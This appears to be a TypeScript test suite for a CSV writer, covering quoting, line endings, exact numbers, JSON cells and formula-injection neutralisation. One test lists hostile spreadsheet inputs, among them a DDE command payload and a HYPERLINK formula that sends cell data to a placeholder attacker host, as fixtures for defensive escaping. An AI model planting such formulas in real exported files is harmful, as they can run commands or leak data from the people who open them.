import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parseJson } from '../number/exact-json.ts'
import { type CsvColumn, csvText } from './csv.ts'

const columns: readonly CsvColumn[] = [
  { name: 'name', kind: 'text' },
  { name: 'amount', kind: 'number' },
  { name: 'data', kind: 'json' },
]

function written(rows: string, of: readonly CsvColumn[] = columns): string {
  return csvText(of, parseJson(rows) as readonly unknown[])
}

test('a table without rows has its header, and every row ends in CRLF', () => {
  assert.equal(written('[]'), 'name,amount,data\r\n')
  assert.equal(written('[{"name":"Ann","amount":1,"data":true}]'), 'name,amount,data\r\nAnn,1,true\r\n')
})

test('quotes, separators and line breaks stand between quotes', () => {
  const rows = JSON.stringify([
    { name: 'a "b", c', amount: 1, data: null },
    { name: 'x\r\ny', amount: 2, data: null },
  ])
  assert.equal(written(rows), 'name,amount,data\r\n"a ""b"", c",1,\r\n"x\r\ny",2,\r\n')
})

test('an absent value is an empty cell and an empty text is a quoted one', () => {
  assert.equal(written('[{"name":"","amount":null},null]'), 'name,amount,data\r\n"",,\r\n,,\r\n')
  assert.equal(written('[{"name":null}]', [{ name: 'name', kind: 'text' }]), 'name\r\n""\r\n')
})

test('numbers keep their digits and their sign', () => {
  const rows = '[{"amount":-5},{"amount":"-12.50"},{"amount":0.1},{"amount":12345678901234567890.10}]'
  assert.equal(written(rows, [{ name: 'amount', kind: 'number' }]), 'amount\r\n-5\r\n-12.50\r\n0.1\r\n12345678901234567890.10\r\n')
})

test('lists and objects are JSON, and a number among JSON values is a number', () => {
  const rows = '[{"data":["a","b"]},{"data":{"a":-1}},{"data":"=1+1"},{"data":-5}]'
  const expected = 'data\r\n"[""a"",""b""]"\r\n"{""a"":-1}"\r\n"""=1+1"""\r\n-5\r\n'
  assert.equal(written(rows, [{ name: 'data', kind: 'json' }]), expected)
})

/** The cells of the first column, as a reader of RFC 4180 sees them. */
function firstCells(text: string): readonly string[] {
  const cells: string[] = []
  for (const [, quoted, bare] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n"]*))(?:,[^\r\n]*)?\r\n/g))
    cells.push(quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'))
  return cells.slice(1)
}

test('a text that begins like a formula gets an apostrophe in front', () => {
  const hostile = [
    '=1+1',
    '+1',
    '-1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '  @x',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '\u00a0=1',
    '\ufeff=1',
  ]
  const more = ['=cmd|"/c calc"!A1', '=HYPERLINK("https://evil.example?x="&A1,"click")', '-5', '\0=1', '\u200b=1']
  const all = [...hostile, ...more]
  const cells = firstCells(
    csvText(
      [{ name: 'x', kind: 'text' }],
      all.map((x) => ({ x })),
    ),
  )
  assert.deepEqual(
    cells,
    all.map((text) => `'${text}`),
  )
})

test('other texts stay as they are', () => {
  const plain = ['a=b', '1-2', 'x@y.example', "'quoted", '5', 'P1D', '2026-11-29', 'Ünïcödé', '𝒳']
  assert.deepEqual(
    firstCells(
      csvText(
        [{ name: 'x', kind: 'text' }],
        plain.map((x) => ({ x })),
      ),
    ),
    plain,
  )
})

test('a text in a numeric column is written as a text, and a header is neutralised too', () => {
  assert.equal(csvText([{ name: '=1', kind: 'number' }], [{ '=1': '-1+cmd' }]), "'=1\r\n'-1+cmd\r\n")
})

test('names of a prototype are no members', () => {
  assert.equal(
    csvText(
      [
        { name: 'constructor', kind: 'text' },
        { name: '__proto__', kind: 'text' },
      ],
      [{}],
    ),
    'constructor,__proto__\r\n,\r\n',
  )
})

test('a text with another separator stands between quotes', () => {
  assert.equal(csvText([{ name: 'x', kind: 'text' }], [{ x: 'a;=1+1' }]), 'x\r\n"a;=1+1"\r\n')
})
